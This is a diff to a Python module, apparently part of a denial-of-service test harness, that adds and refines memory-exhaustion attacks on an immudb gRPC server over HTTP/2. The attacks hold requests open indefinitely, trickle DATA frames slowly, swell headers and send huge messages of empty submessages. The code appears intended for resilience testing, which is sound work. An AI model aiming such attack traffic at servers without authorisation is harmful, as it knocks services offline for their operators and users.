@@ -1,13 +1,12 @@
 """Attacks on memory: requests that never end, headers that swell, answers that nobody reads."""
 
-import socket
 import time
 
 from abuse_calls import limited
 from abuse_harness import attack
 from abuse_http2 import (
-    DATA, END_HEADERS, END_STREAM, HEADERS, HEADER_TABLE_SIZE, INITIAL_WINDOW_SIZE, LARGEST_WINDOW, LEAST, PADDED,
-    SETTINGS, Connection, Crowd, batch, call, call_frames, field, frame, header_block, indexed, indexing, integer,
+    DATA, END_HEADERS, END_STREAM, HEADERS, HEADER_TABLE_SIZE, INITIAL_WINDOW_SIZE, LARGEST_WINDOW, PADDED,
+    Connection, Crowd, call, call_frames, field, frame, header_block, indexed, indexing, integer,
     literal, message, reset, settings, window_update)
 
 
@@ -15,30 +14,55 @@ from abuse_http2 import (
 
 
 def hold_unfinished(context, connections, streams, byte_count, trickles):
-    """`byte_count` bytes of requests on each connection, never ended; PINGs are answered all the time."""
-    part = byte_count // streams
-    body = message(field(1, b"x" * 100) * (part // 102), length=31 << 20)[:part]
+    """Holds `byte_count` bytes of requests on each connection and never ends them; PINGs are answered all the time.
+
+    More requests follow, smaller ones after each that the server refuses, down to 8 bytes, so that the room that the
+    server has for requests fills up to its last byte and stays full.
+    """
+    def submessages(size):
+        return message(field(1, b"x" * 100) * (size // 102 + 1), length=31 << 20)[:size]
+
+    whole = submessages(byte_count // streams)
+
+    def begin(connection, size):
+        stream = connection.stream()
+        connection.sizes[stream] = size
+        connection.push(frame(HEADERS, END_HEADERS, stream, header_block("SetBatch")))
+        connection.upload(stream, whole[:size], ends=False)
+
+    def on_end(connection, stream):
+        size = connection.sizes.pop(stream, None)
+        if size:
+            connection.next_size = max(8, min(connection.next_size, size // 2))
 
     def make():
         connection = Connection(context.port, source=context.source)
+        connection.sizes, connection.next_size, connection.on_end = {}, 4 << 20, on_end
         for _ in range(streams):
-            stream = connection.stream()
-            connection.push(frame(HEADERS, END_HEADERS, stream, header_block("SetBatch")))
-            connection.upload(stream, body, ends=False)
+            begin(connection, len(whole))
         return connection
 
     crowd = Crowd(make, connections, reopens_per_second=20)
+    following = time.monotonic() + 1
 
     def tick():
-        if trickles:
+        nonlocal following
+        for connection in crowd.members.values():
+            if not connection.uploads and len(connection.sizes) < 1_000:
+                begin(connection, min(len(whole), connection.next_size))
+        if trickles and time.monotonic() > following:
+            following += 1
             for connection in crowd.members.values():
-                if not connection.uploads and connection.window > 0:
-                    connection.window -= 1
-                    connection.push(frame(DATA, 0, 1, b"\n"))
+                for stream in connection.sizes:
+                    if stream not in connection.uploads and connection.window > 0:
+                        connection.window -= 1
+                        connection.push(frame(DATA, 0, stream, b"\n"))
 
-    crowd.run(context.until, tick)
-    sent = sum(connection.sent for connection in crowd.members.values())
-    context.note(f"{sent >> 20} MiB held, {crowd.cuts} cuts")
+    crowd.run(context.until, tick, every=0.05)
+    held = sum(sum(c.sizes.values()) for c in crowd.members.values())
+    waiting = sum(len(upload[0]) for c in crowd.members.values() for upload in c.uploads.values())
+    context.note(f"{(held - waiting) >> 20} MiB held in {sum(len(c.sizes) for c in crowd.members.values())} requests,"
+                 f" {crowd.cuts} cuts")
 
 
 @attack("unfinished", "memory", row=3, seconds=20, short_seconds=5, is_about_memory=True)
@@ -60,11 +84,6 @@ def unfinished_pieces(context):
 
 
 # Row 4: headers that swell.
-
-
-def indexed_block(count):
-    """A small header block whose fields come from the dynamic table: `count` times index 62."""
-    return LEAST + literal(":path", "/immudb.schema.ImmuService/Get") + indexed(62) * count
 
 
 def path_first(count):
@@ -244,6 +263,10 @@ def socket_unread(context):
 # Row 6: messages that swell when they are decoded.
 
 
+# MiB: two messages of 12 MiB, each received once and held once more while it is taken apart, and as much for the rest.
+SHORT_BOUND = 96
+
+
 def send_empty_submessages(context, method):
     body = b"\n\x00" * (context.choose(31, 12) << 19)
 
@@ -268,19 +291,22 @@ def send_empty_submessages(context, method):
     context.note(f"{sum(c.ended for c in crowd.members.values())} answered, {crowd.cuts} cuts")
 
 
-@attack("empty-setbatch", "memory", row=6, seconds=10, short_seconds=2, is_about_memory=True)
+@attack("empty-setbatch", "memory", row=6, seconds=10, short_seconds=2, short_bound=SHORT_BOUND,
+        is_about_memory=True)
 def empty_setbatch(context):
     """SetBatch of 31 MiB of empty submessages, two at a time."""
     send_empty_submessages(context, "SetBatch")
 
 
-@attack("empty-setbatchsv", "memory", row=6, seconds=10, short_seconds=2, is_about_memory=True)
+@attack("empty-setbatchsv", "memory", row=6, seconds=10, short_seconds=2, short_bound=SHORT_BOUND,
+        is_about_memory=True)
 def empty_setbatchsv(context):
     """SetBatchSV of 31 MiB of empty submessages, two at a time."""
     send_empty_submessages(context, "SetBatchSV")
 
 
-@attack("empty-getbatch", "memory", row=6, seconds=10, short_seconds=2, is_about_memory=True)
+@attack("empty-getbatch", "memory", row=6, seconds=10, short_seconds=2, short_bound=SHORT_BOUND,
+        is_about_memory=True)
 def empty_getbatch(context):
     """GetBatch of 31 MiB of empty submessages, two at a time."""
     send_empty_submessages(context, "GetBatch")
